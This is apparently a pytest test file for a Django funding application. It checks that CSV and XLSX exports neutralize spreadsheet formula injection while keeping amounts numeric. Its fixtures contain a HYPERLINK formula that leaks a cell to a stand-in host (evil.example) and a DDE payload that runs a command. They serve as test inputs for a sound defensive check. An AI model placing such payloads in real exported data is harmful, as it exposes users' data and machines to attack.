"""Every export makes a text cell that a spreadsheet would run as a formula inert; numbers stay numbers."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from core.spreadsheets import neutralize_formula
from funding.admin import AllocationResource
from funding.models import Allocation
from partners.models import Country

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    "value, written",
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-328816681.00", "-328816681.00"),  # a number written as text is still a number
        ("-5", "-5"),
        (Decimal("-328816681.00"), Decimal("-328816681.00")),
        (-3, -3),
        ("Funds for police", "Funds for police"),
        ("", ""),
        (None, None),
    ],
)
def test_the_guard_neutralizes_formulas_only(value, written):
    assert neutralize_formula(value) == written


@pytest.fixture
def gt_disbursement_with_a_formula_note():
    item = Allocation.objects.filter(country__iso2="GT", stage="disbursed").order_by("id").first()
    item.note = FORMULA
    item.save()
    return item


def test_the_api_csv_writes_the_formula_as_inert_text(client, gt_disbursement_with_a_formula_note):
    response = client.get("/api/v1/allocations/?country=GT&stage=disbursed&format=csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    noted = [row for row in rows if row["note"]]
    assert [row["note"] for row in noted] == ["'" + FORMULA]
    assert sum(Decimal(row["amount"]) for row in rows) == Decimal("1675000.00")


def _admin_export(client, file_format):
    fields = {f"allocationresource_{name}": "on" for name in AllocationResource.Meta.fields}
    guatemala = Country.objects.get(iso2="GT").pk
    response = client.post(
        f"/admin/funding/allocation/export/?stage__exact=disbursed&country__id__exact={guatemala}",
        {"format": file_format, "resource": "0"} | fields,
    )
    assert response.status_code == 200, response.content[:300]
    return response.content


def test_the_admin_csv_export_writes_the_formula_as_inert_text(
    admin_client_logged_in, gt_disbursement_with_a_formula_note
):
    rows = list(csv.DictReader(io.StringIO(_admin_export(admin_client_logged_in, "0").decode())))
    assert [row["note"] for row in rows if row["note"]] == ["'" + FORMULA]


def test_the_admin_xlsx_export_has_no_formula_cell_and_numbers_as_numbers(
    admin_client_logged_in, gt_disbursement_with_a_formula_note
):
    book = openpyxl.load_workbook(io.BytesIO(_admin_export(admin_client_logged_in, "1")))
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    cells = list(sheet.iter_rows(min_row=2))
    assert all(cell.data_type != "f" for row in cells for cell in row)
    notes = [row[header.index("note")].value for row in cells if row[header.index("note")].value]
    assert notes == ["'" + FORMULA]
    amounts = [row[header.index("amount")] for row in cells]
    assert {cell.data_type for cell in amounts} == {"n"}
    assert sum(Decimal(str(cell.value)) for cell in amounts) == Decimal("1675000")
